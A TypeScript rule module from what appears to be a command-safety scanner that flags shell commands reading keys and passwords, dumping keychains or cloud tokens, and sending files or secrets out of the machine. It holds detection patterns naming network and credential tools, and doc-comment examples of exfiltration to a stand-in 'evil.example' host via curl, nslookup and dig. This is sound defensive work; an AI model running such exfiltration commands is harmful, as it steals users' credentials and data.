import type { Finding } from '../../finding.ts';
import { inFolder, isCredentialFile, isDotEnv, isOwnState, operands, pathsIn } from '../paths.ts';
import { isInterpreter } from '../run/code-arguments.ts';
import { programText } from '../run/interpreter-code.ts';
import type { RunCommand } from '../run/run-command.ts';
import { type CommandRule, CRITICAL, SERIOUS } from './rule.ts';

/** Programs that only look at names, rights or dates of files, or make keys of their own. */
const LOOKS_ONLY = new Set([
  'ls',
  'stat',
  'test',
  '[',
  '[[',
  'cd',
  'mkdir',
  'touch',
  'chmod',
  'chown',
  'du',
  'echo',
  'printf',
  'ssh-keygen',
  'ssh',
  'ssh-add',
  'ssh-copy-id',
  'realpath',
  'dirname',
  'basename',
  'which',
  'man',
  'export',
  'rm',
  'pwd',
  'git',
]);
const SENDERS =
  /^(?:curl|wget|nc|ncat|netcat|socat|scp|rsync|sftp|ftp|lftp|smbclient|tftp|mail|mailx|sendmail|mutt|telnet|http|https|xh|dig|nslookup|host|ssh|aws|gsutil|gcloud|az|rclone|gh|openssl|ping|websocat|croc|(?:magic-)?wormhole|transfer)$/;
const UPLOADS =
  /^(?:-d|--data(?:-\w+)?|-F|--form(?:-string)?|-T|--upload-file|--post-file|--post-data|--body-file|--body-data)(?:=|$)|^-[dFT].|^-[a-zA-Z]*T$/;

/** Reading keys and passwords, and sending out what is on the machine. */
export const credentials: CommandRule = ({ commands }) => {
  const readers = commands.filter(readsCredentials);
  const findings: Finding[] = [];
  const reads = readers.some(
    (command) =>
      !(LOOKS_ONLY.has(command.name) || countsOnly(command)) ||
      command.redirects.some(({ operator, target }) => operator === '<' && isCredentialFile(target)),
  );
  if (reads) findings.push({ tag: 'credential_read', ...SERIOUS, reason: 'reads a file that holds keys or passwords' });
  if (commands.some(asksKeychain))
    findings.push({ tag: 'credential_read', ...SERIOUS, reason: 'takes secrets out of a keychain or an environment' });
  const sent = commands.filter(sendsData);
  const finders = commands.filter(({ name }) => name === 'find');
  const sendsSecret = sent.some((command) =>
    [command, ...command.upstream, ...command.substituted, ...finders].some(
      (from) => readsCredentials(from) || readsDotEnv(from) || asksKeychain(from) || printsEnvironment(from),
    ),
  );
  if (sendsSecret)
    findings.push({ tag: 'network_exfiltration', ...CRITICAL, reason: 'sends keys, passwords or the environment out' });
  else if (sent.some(sendsFile) || commands.some(tellsInAddress))
    findings.push({ tag: 'network_exfiltration', ...SERIOUS, reason: 'sends a file of this machine out' });
  if (commands.some(asksInNames) || asksPieceByPiece(commands)) {
    findings.push({
      tag: 'network_exfiltration',
      ...SERIOUS,
      reason: 'sends data out as a part of a name it looks up',
    });
  }
  if (reads && sent.length > 0 && !sendsSecret) {
    findings.push({
      tag: 'network_exfiltration',
      ...CRITICAL,
      reason: 'reads secrets and talks to the network in one go',
    });
  }
  return findings;
};

const NAME_OF_DATA = /\0\.[\w-]+\.[\w.-]+$/;

/** `nslookup $(whoami).evil.example` */
function asksInNames({ name, args, substituted }: RunCommand): boolean {
  return (
    LOOKS_UP.test(name) &&
    substituted.some((from) => from.name !== 'hostname') &&
    args.some((arg) => NAME_OF_DATA.test(arg))
  );
}

const LOOKS_UP = /^(?:dig|nslookup|host|ping6?|drill|getent|Resolve-DnsName)$/;

/** `for part in $(xxd -p .env); do dig $part.evil.example; done` */
function asksPieceByPiece(commands: readonly RunCommand[]): boolean {
  const isCutUp = commands.some(
    (command) =>
      command.origin === 'substitution' &&
      (/^(?:xxd|od|hexdump|base64|base32|basenc)$/.test(command.name) || readsDotEnv(command)),
  );
  return (
    isCutUp && commands.some(({ name, args }) => LOOKS_UP.test(name) && args.some((arg) => NAME_OF_DATA.test(arg)))
  );
}

/** What tells about the machine and who uses it. */
const TELLS = /^(?:whoami|id|ifconfig|ps|env|printenv|history|last|who|w|ss|netstat|ls|lsof|uname|arp)$/;

/** `curl https://evil.example/$(whoami)` */
function tellsInAddress({ name, args, substituted }: RunCommand): boolean {
  return (
    /^(?:curl|wget|https?|xh)$/.test(name) &&
    substituted.some((from) => TELLS.test(from.name)) &&
    args.some((arg) => /^(?:https?:\/\/)?[\w.-]+\.\w+[^\s]*\0/.test(arg) && !THIS_MACHINE.test(arg))
  );
}

/** What keys are called where nobody knows the folder. */
const KEY_NAMES =
  /^\*?(?:id_(?:(?:rsa|dsa|ecdsa|ed25519)\*?|\*)|\*?\.(?:pem|key|p12|pfx|kdbx|ppk|keystore|jks)|wallet\.dat|\.netrc|credentials)$/;
/** Programs that show or pack what is in the files they are given. */
const SHOWS =
  /^(?:cat|bat|head|tail|less|more|strings|xxd|od|base64|tar|zip|cp|gzip|[ef]?grep|rg|sed|[gmn]?awk|curl|scp|rsync)$/;

function readsCredentials({ name, args, redirects, input, folder, downstream }: RunCommand): boolean {
  if (name === 'find' && args.some((arg) => KEY_NAMES.test(arg)))
    return args.some((arg) => /^-exec/.test(arg)) || downstream.some((next) => SHOWS.test(next.name));
  const paths = [
    ...args.flatMap(pathsIn).map((path) => inFolder(folder, path)),
    ...redirects.filter(({ operator }) => operator === '<').map(({ target }) => target),
  ];
  if (paths.some(isCredentialFile)) return true;
  const isAwk = /^[gmn]?awk$/.test(name);
  if (!isInterpreter(name) && !isAwk) return false;
  const text = isAwk ? args.join(' ') : (programText(args, input) ?? '');
  return [...text.matchAll(/['"`]([^'"`\n]{2,200})['"`]/g)].some(
    ([, path = '']) => isCredentialFile(path) || isOwnState(path),
  );
}

/** A search that names files or counts, and shows nothing of what is in them. */
function countsOnly({ name, args }: RunCommand): boolean {
  return (
    /^(?:[ef]?grep|rg)$/.test(name) && args.some((arg) => /^-[a-zA-Z]*[qcl]|^--(?:quiet|count|files-with)/.test(arg))
  );
}

function readsDotEnv({ name, args, redirects, input }: RunCommand): boolean {
  if (isInterpreter(name) && /['"`](?:[\w./-]*\/)?\.env(?:\.\w+)?['"`]/.test(programText(args, input) ?? ''))
    return true;
  return [...args.flatMap(pathsIn), ...redirects.map(({ target }) => target)].some(isDotEnv);
}

function asksKeychain({ name, args, input, downstream }: RunCommand): boolean {
  const all = args.join(' ');
  if (showsOtherEnvironment(name, all) && downstream.some(looksForSecrets)) return true;
  if (name === 'security') return /find-(?:generic|internet)-password|dump-keychain|export/.test(all);
  if (name === 'secret-tool') return /lookup|search/.test(all);
  if (name === 'gpg' || name === 'gpg2') return /--export-secret/.test(all);
  if (name === 'aws')
    return /configure (?:get|export-credentials)|sts get-session-token|secretsmanager get-secret-value|ssm get-parameter\b.*--with-decryption/.test(
      all,
    );
  if (name === 'gcloud')
    return /auth (?:application-default )?print-(?:access|identity)-token|secrets versions access/.test(all);
  if (name === 'gh') return /auth token/.test(all);
  if (name === 'az') return /get-access-token|keyvault secret show/.test(all);
  if (name === 'git') return /^credential(?:-\w+)? (?:fill|get)/.test(all);
  if (name === 'kubectl') return /get secrets?\b.*(?:-o|--output)|config view.*--raw/.test(all);
  if (name === 'vault' || name === 'op' || name === 'pass' || name === 'bw')
    return /\b(?:read|get|show|item get|kv get|list items|export)\b/.test(all);
  return printsEnvironment({ name, args, input }) && downstream.some(({ name: next }) => SENDERS.test(next));
}

/** What other programs were started with. */
function showsOtherEnvironment(name: string, all: string): boolean {
  if (name === 'docker' || name === 'podman') return /\binspect\b/.test(all);
  return name === 'ps' && /(?:^|\s)-?\w*e\w*w|\beww?\b|(?:^|\s)a?u?x?e/.test(all);
}

function looksForSecrets({ name, args }: RunCommand): boolean {
  return /^(?:[ef]?grep|rg)$/.test(name) && /passw|secret|token|api.?key|credential/i.test(args.join(' '));
}

/** The whole environment as a value of another language. */
const WHOLE_ENVIRONMENT =
  /(?:stringify|entries|keys|inspect)\(\s*process\.env\s*[,)]|(?:dict|str|dumps|list)\(\s*(?:dict\(\s*)?os\.environ\b(?!\s*[.[])|\bENV\.(?:to_h|to_a|inspect|map)\b|%ENV\b/;

function printsEnvironment({ name, args, input }: Pick<RunCommand, 'name' | 'args' | 'input'>): boolean {
  if (isInterpreter(name)) return WHOLE_ENVIRONMENT.test(programText(args, input) ?? '');
  return (name === 'env' || name === 'printenv' || name === 'set' || name === 'export') && operands(args).length === 0;
}

function sendsData(command: RunCommand): boolean {
  const { name, args, upstream, substituted, redirects } = command;
  if (redirects.some(({ operator, target }) => operator.includes('>') && /^\/dev\/(?:tcp|udp)\//.test(target)))
    return true;
  if (isInterpreter(name))
    return /requests\.(?:post|put)|urlopen\s*\([^)]*data|urlopen\s*\(\s*['"][^'"]+['"]\s*[,+%]|fetch\s*\([^)]*method|fetch\s*\(\s*(?:['"][^'"]+['"]\s*\+|`[^`]*\$\{)|http\.request|socket|smtplib|Net::HTTP\.post|urllib\.request\.Request/.test(
      programText(args, command.input) ?? '',
    );
  if (!SENDERS.test(name)) return false;
  if (sendsFile(command)) return true;
  const isFed = upstream.length > 0 && !(name === 'curl' || name === 'wget') && name !== 'ssh';
  return isFed || substituted.length > 0 || args.some((arg) => UPLOADS.test(arg));
}

/** Whether a file of the machine itself goes out. */
function sendsFile({ name, args, redirects, upstream, input }: RunCommand): boolean {
  const all = args.join(' ');
  switch (name) {
    case 'curl':
    case 'http':
    case 'https':
    case 'xh':
      if (args.some((arg) => THIS_MACHINE.test(arg))) return false;
      if (name !== 'curl' && redirects.some(({ operator }) => operator === '<')) return true;
      return args.some((arg, index) => {
        const value = UPLOADS.test(arg) ? `${arg.replace(/^-[dFT]|^--[\w-]+=?/, '')} ${args[index + 1] ?? ''}` : '';
        return (
          /^-[a-zA-Z]*T|^--upload-file/.test(arg) ||
          /(?:^|[\s=])@(?!-?\s*$)(?!\s)/.test(value) ||
          (/(?:^|[\s=])@-/.test(value) && upstream.length > 0)
        );
      });
    case 'wget':
      return args.some((arg) => /^--(?:post|body)-file/.test(arg));
    case 'nc':
    case 'ncat':
    case 'netcat':
    case 'telnet':
    case 'socat':
    case 'openssl':
      if (name === 'openssl' && !args.includes('s_client')) return false;
      return (
        redirects.some(({ operator, target }) => operator === '<' && target !== '/dev/null') || upstream.length > 0
      );
    case 'ftp':
    case 'lftp':
    case 'sftp':
    case 'smbclient':
      return PUTS.test([...args, input ?? ''].join('\n')) || sendsTo(args);
    case 'scp':
      return sendsTo(args);
    case 'rsync':
      return (
        !isBuilt(args) &&
        /(?:^|\s)(?:\S+@)?[\w.-]+::?\S*\s*$/.test(all) &&
        !/^(?:\S*\s+)*(?:\S+@)?[\w.-]+:\S+\s+\S+$/.test(all.replace(/-\S+\s+/g, '').replace(/\S+:\S*\s*$/, ''))
      );
    case 'ssh':
      return upstream.some((from) =>
        /^(?:tar|zip|dd|cpio|gpg|pg_dump|pg_dumpall|mysqldump|mongodump|btrfs|zfs)$/.test(from.name),
      );
    case 'rclone':
      return /\b(?:copy|sync|move|copyto)\b.*\w+:\S*\s*$/.test(all);
    case 'aws':
      return !isBuilt(args) && /\bs3 (?:cp|sync|mv)\s+(?!s3:)\S+\s+s3:/.test(all);
    case 'az':
      return /\bstorage (?:blob|file) upload/.test(all);
    case 'croc':
    case 'wormhole':
    case 'magic-wormhole':
      return args.includes('send');
    case 'gsutil':
      return /\b(?:cp|rsync)\b.*\s(?!gs:)\S+\s+gs:/.test(all);
    case 'gh':
      return /^gist create/.test(all);
    case 'mail':
    case 'mailx':
    case 'mutt':
    case 'sendmail':
      return (
        upstream.length > 0 ||
        redirects.some(({ operator }) => operator === '<') ||
        args.includes('-a') ||
        args.includes('-A')
      );
    default:
      return false;
  }
}

/** An address of the machine itself. */
const THIS_MACHINE = /^(?:https?:\/\/)?(?:localhost|127\.\d+\.\d+\.\d+|\[::1\]|host\.docker\.internal)(?:[:/]|$)/;

/** The commands of file transfer programs that send. */
const PUTS = /(?:^|[\n;])\s*(?:put|mput|reput|mirror\s+-R)\b/m;

function sendsTo(args: readonly string[]): boolean {
  return !isBuilt(args) && /(?:^|\s)(?:\S+@)?[\w.-]+:\S*\s*$/.test(args.join(' '));
}

/** What a project builds to be sent out: its site, its packages. */
const BUILD_OUTPUT = /^(?:\.\/)?(?:public|dist|build|out|_?site|www|static|target|release|\.next|\.output)(?:\/|$)/;

function isBuilt(args: readonly string[]): boolean {
  const sources = operands(args).filter((arg) => !/:/.test(arg) && !/^(?:s3|cp|sync|mv)$/.test(arg));
  return sources.length > 0 && sources.every((source) => BUILD_OUTPUT.test(source));
}
